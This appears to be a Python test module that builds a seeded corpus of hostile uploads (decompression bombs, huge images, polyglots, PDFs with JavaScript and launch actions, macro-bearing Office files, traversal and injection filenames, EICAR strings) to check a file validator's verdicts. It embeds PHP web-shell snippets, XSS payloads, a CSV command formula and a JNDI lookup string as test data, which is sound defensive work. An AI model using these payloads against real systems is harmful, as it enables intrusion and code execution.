"""Two hundred hostile files, each with the end it must come to. Made from code and a seed, so that none is kept."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Final

from tests.assessments import evidence_samples as samples
from tests.assessments.hostile_archives import archives, bombs
from tests.assessments.hostile_sample import Hostile, zeros
from tests.assessments.scanners import EICAR
from tests.assessments.test_evidence_pdf import PAGES, pdf_of

SEED: Final = 20_261_122
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"


def corpus(canary: str) -> list[Hostile]:
    """All of them. `canary` is an http address that nothing may ever ask."""
    makers: tuple[Callable[[str], Iterator[Hostile]], ...] = (
        bombs, archives, _pictures, _pdfs, _documents, _polyglots, _names, _viruses, _mutations,
    )  # fmt: skip
    return [made for maker in makers for made in maker(canary)]


def _png(width: int, height: int, *, data: bytes = b"\0") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def _pictures(_: str) -> Iterator[Hostile]:
    for width, height in (
        (6_400, 6_400),
        (30_000, 30_000),
        (65_535, 65_535),
        (2**31 - 1, 1),
        (2**31 - 1, 2**31 - 1),
        (0, 0),
    ):
        yield Hostile(f"PNG of {width} x {height}", "a.png", _png(width, height), "rejected")
    yield Hostile("PNG with a data bomb", "a.png", _png(8, 8, data=zeros(50 * 1024**2)), "either")
    gif = b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\0\0" + b"\0" * 6 + b";"
    tiff = (
        b"II*\0\x08\0\0\0\2\0"
        + struct.pack("<HHLL", 256, 4, 1, 10**6)
        + struct.pack("<HHLL", 257, 4, 1, 10**6)
        + b"\0" * 4
    )
    for name in ("a.gif", "a.png", "a.jpg", "a.webp", "a.txt"):
        yield Hostile(f"GIF of 4 billion pixels as {name}", name, gif, "refused")
        yield Hostile(f"TIFF of 10¹² pixels as {name}", name.replace("gif", "tiff"), tiff, "refused")
    text = b"tEXtComment\0" + b"<script>alert(1)</script>"
    for form, name in (("PNG", "a.png"), ("JPEG", "a.jpg"), ("WEBP", "a.webp")):
        good = samples.picture(form)
        yield Hostile(f"{form} and PHP behind", name, good + b"<?php system($_GET[1]); ?>", "rejected")
        yield Hostile(f"{form} and zeros behind", name, good + b"\0" * 5000 + b"x", "rejected")
        yield Hostile(f"{form} and a program behind", name, good + b"MZ\x90\0" * 99, "rejected")
        yield Hostile(f"{form} and an archive behind", name, good + samples.archive({"a": b"a"}), "rejected")
    note = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    good = samples.picture()
    yield Hostile("script in a PNG's comment", "a.png", good[:33] + note + good[33:], "rejected")
    jpeg = samples.picture("JPEG")
    for program in (b"<?php eval($_POST[1]);?>", b"<script>alert(1)</script>", b"<svg onload=alert(1)>"):
        comment = b"\xff\xfe" + struct.pack(">H", len(program) + 2) + program
        yield Hostile(f"JPEG with {program[:8]!r} as comment", "a.jpg", jpeg[:2] + comment + jpeg[2:], "rejected")


def _pdfs(canary: str) -> Iterator[Hostile]:
    uri = canary.encode()
    acts = {
        "JavaScript on opening": (b"/OpenAction<</S/JavaScript/JS(app.launchURL('%s'))>>" % uri, ()),
        "JavaScript spelt in hex": (b"/OpenAction<</S/#4Aava#53cript/#4A#53(1)>>", ()),
        "JavaScript by name": (b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", (b"<<>>",)),
        "launch": (b"/OpenAction<</S/Launch/F(calc.exe)>>", ()),
        "launch on Windows": (b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c x)>>>>", ()),
        "form sent away": (b"/AA<</WC<</S/SubmitForm/F(%s)>>>>" % uri, ()),
        "data fetched": (b"/OpenAction<</S/ImportData/F(%s)>>" % uri, ()),
        "rendition": (b"/OpenAction<</S/Rendition>>", ()),
        "rich media": (b"", (b"<</Type/Annot/Subtype/RichMedia>>",)),
        "3D": (b"", (b"<</Type/Annot/Subtype/3D>>",)),
        "embedded file": (b"/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 4 0 R>>>>]>>>>", (b"<<>>",)),
        "attached file": (b"", (b"<</Type/Annot/Subtype/FileAttachment/FS<</EF<<>>>>>>",)),
        "portfolio": (b"/Collection<</View/D>>", ()),
        "XFA": (b"/AcroForm<</XFA[(a)(b)]>>", ()),
    }
    for label, (catalogue, more) in acts.items():
        yield Hostile(f"PDF with {label}", "a.pdf", pdf_of(CATALOGUE % catalogue, *PAGES, *more), "rejected")
    yield Hostile(
        "PDF with a link", "a.pdf", pdf_of(CATALOGUE % (b"/OpenAction<</S/URI/URI(%s)>>" % uri), *PAGES), "ready"
    )
    external = b"<</Type/XObject/Subtype/Image/F(%s)/Length 0>>\nstream\n\nendstream" % uri
    yield Hostile("PDF with a picture from elsewhere", "a.pdf", pdf_of(CATALOGUE % b"", *PAGES, external), "ready")
    circles = {
        "itself": (b"<</Type/Pages/Kids[2 0 R]/Count 1>>",),
        "each other": (b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "many times": (b"<</Type/Pages/Kids[%s]/Count 999999>>" % (b"2 0 R " * 5000),),
    }
    for label, objects in circles.items():
        yield Hostile(f"page tree in a circle, {label}", "a.pdf", pdf_of(CATALOGUE % b"", *objects), "rejected")
    yield Hostile("catalogue that is itself", "a.pdf", pdf_of(b"1 0 R"), "rejected")
    deep = b"[" * 50_000 + b"]" * 50_000
    yield Hostile("arrays 50,000 deep", "a.pdf", pdf_of(CATALOGUE % b"/X 4 0 R", *PAGES, deep), "rejected")
    flate = zlib.compress(zeros(100 * 1024**2), 9)
    for times in (1, 2):
        data = flate if times == 1 else zlib.compress(flate, 9)
        filters = b"[" + b"/FlateDecode" * times + b"]"
        stream = b"<</Type/ObjStm/N 99999/First 9/Length %d/Filter%s>>\nstream\n%s\nendstream" % (
            len(data),
            filters,
            data,
        )
        content = pdf_of(CATALOGUE % b"", *PAGES, stream)
        yield Hostile(f"object stream of 100 MiB, packed {times}x", "a.pdf", content, "either")
        table = b"<</Type/XRef/Size 99/W[1 9 9]/Root 1 0 R/Length %d/Filter%s>>\nstream\n%s\nendstream" % (
            len(data),
            filters,
            data,
        )
        body = b"%PDF-1.7\n1 0 obj\n" + table + b"\nendobj\nstartxref\n9\n%%EOF\n"
        yield Hostile(f"table of 100 MiB, packed {times}x", "a.pdf", body, "rejected")
    yield Hostile("table that names itself", "a.pdf", pdf_of(CATALOGUE % b"", *PAGES, trailer=b"/Prev 9"), "either")
    yield Hostile("more pages than said", "a.pdf", samples.pdf(pages=2_001), "rejected")
    yield Hostile("encrypted PDF", "a.pdf", samples.pdf(password="x"), "rejected")


def _documents(_: str) -> Iterator[Hostile]:
    active = {
        "vbaProject.bin": {"word/vbaProject.bin": b"x"}, "VBA in capitals": {"word/VBAPROJECT.BIN": b"x"},
        "vbaData": {"word/vbaData.xml": b"<x/>"}, "ActiveX": {"word/activeX/activeX1.xml": b"<a/>"},
        "macro sheet": {"xl/macrosheets/s.xml": b"<m/>"}, "OLE object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf"},
        "program as a picture": {"word/media/a.png": b"MZ\x90"}, "script": {"word/a.vbs": b"x"},
        "document with macros inside": {"word/embeddings/a.docm": b"x"}, "HTML inside": {"word/a.html": b"<p>"},
        "control": {"xl/ctrlProps/a.xml": b"<x/>"}, "shortcut": {"word/a.lnk": b"L"},
    }  # fmt: skip
    for label, parts in active.items():
        yield Hostile(f"document with {label}", "a.docx", samples.docx_with(parts), "rejected")
    macro = {"word/m.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
    yield Hostile("macros by content type", "a.docx", samples.docx_with({}, types=macro), "rejected")
    yield Hostile("Basic in an ODT", "a.odt", samples.archive({"mimetype": b"x", "Basic/a.xml": b"x"}), "rejected")
    locked = '<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry>'
    yield Hostile("encrypted ODT", "a.odt", samples.odt(manifest=locked), "rejected")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    for name in ("a.docx", "a.xlsx", "a.txt"):
        yield Hostile(f"encrypted Office file as {name}", name, ole, "refused")
    for name in ("a.xlsx", "a.pptx", "a.odt"):
        yield Hostile(f"DOCX as {name}", name, samples.docx_with({f"word/{name}.xml": b"<x/>"}), "rejected")
    formula = b'=cmd|"/c calc"!A1,@SUM(1),+1,-1,\t=1\n'
    yield Hostile("formulas in a CSV", "a.csv", formula, "ready")


def _polyglots(_: str) -> Iterator[Hostile]:
    archive = samples.archive({"a": b"a"})
    yield Hostile("PDF and ZIP", "a.pdf", samples.pdf() + archive, "rejected")
    yield Hostile("PDF and ZIP, ended as a PDF", "a.pdf", samples.pdf() + archive + b"\n%%EOF", "rejected")
    yield Hostile("ZIP behind a script", "a.docx", b"#!/bin/sh\n" + samples.docx(), "refused")
    yield Hostile("DOCX with a tail", "a.docx", samples.docx() + b"<script>alert(1)</script>", "rejected")
    yield Hostile("GIF and JavaScript", "a.png", b"GIF89a/*" + b"\0" * 9 + b"*/=alert(1)//", "refused")
    yield Hostile("text and ZIP", "a.txt", b"As agreed.\n" + archive, "rejected")
    yield Hostile("HTML before a PDF", "a.pdf", b"<script>alert(1)</script>" + samples.pdf(), "refused")
    yield Hostile("script behind a PDF", "a.pdf", samples.pdf() + b"<script>alert(1)</script>", "rejected")
    for name in ("a.html", "a.htm", "a.svg", "a.xml", "a.js", "a.zip", "a.docm", "a.xlsm", "a.exe", "a.pdf.exe", "a"):
        yield Hostile(f"a PDF as {name}", name, samples.pdf(), "refused")
    for start in (
        b"<!DOCTYPE html><script>",
        b"<svg onload=alert(1)>",
        b"<?php",
        b"<?xml version='1.0'?>",
        b"  \n<HTML>",
    ):
        yield Hostile(f"{start[:9]!r} as text", "a.txt", start + b" x", "rejected")
    for start, label in (
        (b"MZ", "program"),
        (b"\x7fELF", "program"),
        (b"{\\rtf1", "RTF"),
        (b"\x1f\x8b", "gzip"),
        (b"Rar!", "RAR"),
    ):
        yield Hostile(f"{label} {start!r} as text", "a.md", start + b" x" * 9, "refused")
    for content in (b"a\0b", b"\xff\xfe" + "x".encode("utf-16-le"), b"\xc3\x28"):
        yield Hostile(f"{content[:4]!r} as text", "a.txt", content, "rejected")


def _names(_: str) -> Iterator[Hostile]:
    """Kept under a name that means nothing: served as an attachment, never as a path or a header of its own."""
    names = {
        "../../../../etc/passwd.txt": "ready", "..\\..\\boot.txt": "ready", "/etc/shadow.txt": "ready",
        "\u202etxt.exe.txt": "ready", "a\u200bb\ufeff.txt": "ready",
        "a\r\nSet-Cookie: x=1.txt": "refused", "a\tb.txt": "ready",
        'quote".txt': "ready", "semi;filename=x.html.txt": "ready", "%2e%2e%2fx.txt": "ready",
        "Ünïcödé-日本語-🙂.txt": "ready",
        "CON.txt": "ready", ".htaccess.txt": "ready", "a" * 190 + ".txt": "ready", "a" * 300 + ".txt": "refused",
        "<script>alert(1)<.txt": "ready", "a.txt.": "refused", "a.txt\0.html": "refused",
        "a.html;.txt": "ready", "${jndi:ldap:x}.txt": "ready", "`id`.txt": "ready", "-rf.txt": "ready",
    }  # fmt: skip
    for number, (name, end) in enumerate(names.items()):
        yield Hostile(f"name {name[:40]!r}", name, b"Harmless, number %d.\n" % number, end)  # type: ignore[arg-type]


def _viruses(_: str) -> Iterator[Hostile]:
    wrapped = {
        "plain": ("e.txt", EICAR), "in a table": ("e.csv", b"a,b\n" + EICAR), "in Markdown": ("e.md", b"# x\n" + EICAR),
        "in a DOCX": ("e.docx", samples.docx_with({"word/a.txt": EICAR})),
        "in an XLSX": ("e.xlsx", samples.archive({"xl/a.txt": EICAR})),
        "in a ZIP in a DOCX": ("e.docx", samples.docx_with({"word/a.zip": samples.archive({"e": EICAR})})),
        "in a DOCX, not packed": ("e.docx", samples.archive({"a.txt": EICAR}, method=zipfile.ZIP_STORED)),
        "behind a PNG": ("e.png", samples.picture() + EICAR),
        "in a PDF": ("e.pdf", samples.pdf() + b"%" + EICAR + b"\n%%EOF"),
    }  # fmt: skip
    for label, (name, content) in wrapped.items():
        yield Hostile(f"EICAR {label}", name, content, "rejected")


def _mutations(_: str) -> Iterator[Hostile]:
    """Two of each kind cut off, four of each kind with bytes changed."""
    chance = random.Random(SEED)
    kinds = (
        "manual.pdf",
        "minutes.docx",
        "register.xlsx",
        "policy.odt",
        "photo.png",
        "photo.jpg",
        "photo.webp",
        "notes.txt",
    )
    for name in kinds:
        good = samples.GOOD[name][0]()
        if name != "notes.txt":
            for part in (0.3, 0.9):
                yield Hostile(f"{name} cut at {part}", name, good[: int(len(good) * part)], "rejected")
        for number in range(4):
            changed = bytearray(good)
            for _change in range(1 + 4 * number):
                changed[chance.randrange(8, len(changed))] = chance.randrange(256)
            yield Hostile(f"{name} changed, {number}", name, bytes(changed), "either")
